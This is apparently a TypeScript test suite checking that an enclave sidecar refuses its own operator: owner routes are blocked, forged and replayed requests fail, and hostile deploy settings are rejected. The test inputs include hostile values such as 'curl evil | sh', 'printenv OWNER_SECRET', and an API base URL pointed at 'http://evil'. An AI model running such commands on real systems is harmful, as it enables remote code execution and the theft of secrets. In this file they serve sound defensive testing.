// The sidecar in a CVM attacked by its operator (TEE_BACKEND=phala): with everything the operator
// holds — the sidecar token it made, the relay bytes, a wallet of its own — no owner route runs,
// no sealed value comes back, and the owner's own channel still works. A real sidecar process.
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { contextString, fromHex, sealSecrets } from '@agent-sandbox/attestation';
import { privateKeyToAccount } from 'viem/accounts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadConfig } from '../config.ts';
import { type FakeDstack, startFakeDstack } from '../testing/fake-dstack.ts';
import { ownerChannel } from '../testing/owner-channel.ts';
import { type SidecarFixture, startSidecarFixture } from '../testing/sidecar-fixture.ts';

const owner = privateKeyToAccount(`0x${'a1'.repeat(32)}`);
const operatorWallet = privateKeyToAccount(`0x${'b2'.repeat(32)}`);
const sandboxId = `sbx-${'4'.repeat(32)}`;
const ctx = contextString({
  chainId: 31337,
  serviceId: 9,
  sandboxId,
  operator: operatorWallet.address,
  owner: owner.address,
});
const SECRET = `sealed-${randomBytes(8).toString('hex')}`;

let dir: string;
let dstack: FakeDstack;
let fx: SidecarFixture;
let pubkeyHex: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'sidecar-tee-attack-'));
  dstack = await startFakeDstack(join(dir, 'dstack.sock'));
  fx = await startSidecarFixture({
    SIDECAR_TEE: 'dstack',
    SIDECAR_TEE_CONTEXT: ctx,
    SIDECAR_DSTACK_SOCKET: dstack.socketPath,
  });
  pubkeyHex = (await fx.call('GET', `/tee/public-key?nonce=${randomBytes(32).toString('hex')}`)).json.pubkey;
  // The owner seals a secret, through the channel.
  const ch = ownerChannel({ url: fx.sidecar.url, operatorToken: fx.token, pubkeyHex, ctx, owner });
  const body = sealSecrets(fromHex(pubkeyHex), ctx, sandboxId, { OWNER_SECRET: SECRET });
  const r = await ch.client.json('POST', '/tee/sealed-secrets', body);
  expect(r.json).toEqual({ success: true, secrets_count: 1 });
});
afterAll(async () => {
  await fx?.close();
  await dstack?.close();
  await rm(dir, { recursive: true, force: true });
});

describe('a sidecar in a CVM, attacked by the operator that deployed it', () => {
  it('the operator token reaches health and evidence only: every owner route is refused', async () => {
    const owned: Array<[string, string, unknown]> = [
      ['POST', '/terminals/commands', { command: 'printenv OWNER_SECRET' }],
      ['POST', '/files/read', { path: '.bashrc' }],
      ['POST', '/files/write', { path: 'x', content: 'y' }],
      ['POST', '/files/list', { path: '.' }],
      ['PUT', '/env', { env: { SANDBOX_AGENT_COMMAND: 'printenv' } }],
      ['POST', '/terminals', {}],
      ['GET', '/terminals', undefined],
      ['POST', '/agents/run', { prompt: 'printenv' }],
      ['POST', '/agents/run/cancel', {}],
      ['GET', '/agents', undefined],
      [
        'POST',
        '/tee/sealed-secrets',
        sealSecrets(fromHex(pubkeyHex), ctx, sandboxId, { OPENAI_BASE_URL: 'http://evil' }),
      ],
    ];
    for (const [method, path, body] of owned) {
      const r = await fx.call(method, path, body);
      expect([path, r.status]).toEqual([path, 403]);
      expect(JSON.stringify(r.json)).not.toContain(SECRET);
    }
    expect((await fx.call('GET', '/health', undefined, { token: null })).status).toBe(200);
    expect((await fx.call('GET', `/tee/attestation?nonce=${randomBytes(32).toString('hex')}`)).status).toBe(
      200,
    );
  });

  it('the operator signing orders with its own wallet, or replaying the owner’s, gets nothing', async () => {
    const asOperator = ownerChannel({
      url: fx.sidecar.url,
      operatorToken: fx.token,
      pubkeyHex,
      ctx,
      owner: operatorWallet,
    });
    const r = await asOperator.client.json('POST', '/terminals/commands', {
      command: 'printenv OWNER_SECRET',
    });
    expect(r.status).toBe(403);
    expect(JSON.stringify(r.json)).toMatch(/not signed for this enclave by its owner/);

    // The owner's request, relayed twice: the second is a replay.
    const mine = ownerChannel({ url: fx.sidecar.url, operatorToken: fx.token, pubkeyHex, ctx, owner });
    const ok = await mine.client.json('POST', '/terminals/commands', {
      command: 'echo "$OWNER_SECRET"; echo run >> runs.log',
    });
    expect(ok.status).toBe(200);
    expect((ok.json as { result: { stdout: string } }).result.stdout.trim()).toBe(SECRET);
    const replayed = await fetch(`${fx.sidecar.url}/tee/channel`, {
      method: 'POST',
      headers: { authorization: `Bearer ${fx.token}` },
      body: Buffer.from(mine.wire[0]!),
    });
    expect(replayed.status).toBe(200); // the answer is sealed: the relay learns nothing from it …
    const sealed = new Uint8Array(await replayed.arrayBuffer());
    expect(Buffer.from(sealed).toString('latin1')).not.toContain(SECRET);
    // … and the command did not run again.
    const count = await mine.client.json('POST', '/terminals/commands', { command: 'wc -l < runs.log' });
    expect((count.json as { result: { stdout: string } }).result.stdout.trim()).toBe('1');

    // Nothing the relay saw carries the command, the output or the secret in the clear.
    const seen = Buffer.concat(mine.wire.map((b) => Buffer.from(b))).toString('latin1');
    expect(seen).not.toContain(SECRET);
    expect(seen).not.toContain('OWNER_SECRET');
    expect(seen).not.toContain('printenv');
  });

  it('refuses a tampered request with a plain 400 and nothing else', async () => {
    const mine = ownerChannel({ url: fx.sidecar.url, operatorToken: fx.token, pubkeyHex, ctx, owner });
    await mine.client.json('GET', '/terminals');
    const t = Buffer.from(mine.wire[0]!);
    t[t.length - 3]! ^= 1;
    const r = await fetch(`${fx.sidecar.url}/tee/channel`, {
      method: 'POST',
      headers: { authorization: `Bearer ${fx.token}` },
      body: t,
    });
    expect(r.status).toBe(400);
  });

  it('refuses to boot when the operator’s deploy env would decide what runs or as whom', () => {
    const env = { SIDECAR_AUTH_TOKEN: 'x'.repeat(32), SIDECAR_TEE: 'dstack', SIDECAR_TEE_CONTEXT: ctx };
    expect(() => loadConfig({ ...env, SIDECAR_AGENT_COMMAND: 'curl evil | sh' })).toThrow(/operator's/);
    expect(() => loadConfig({ ...env, AGENT_SUBPROCESS_UID: '0' })).toThrow(/operator's/);
    // What the operator adds to the deploy env never reaches a child either.
    const c = loadConfig({ ...env, PATH: '/usr/bin:/bin', OPENAI_BASE_URL: 'http://evil', BASH_ENV: '/x' });
    expect(c.childEnv).toEqual({ PATH: '/usr/bin:/bin' });
  });
});
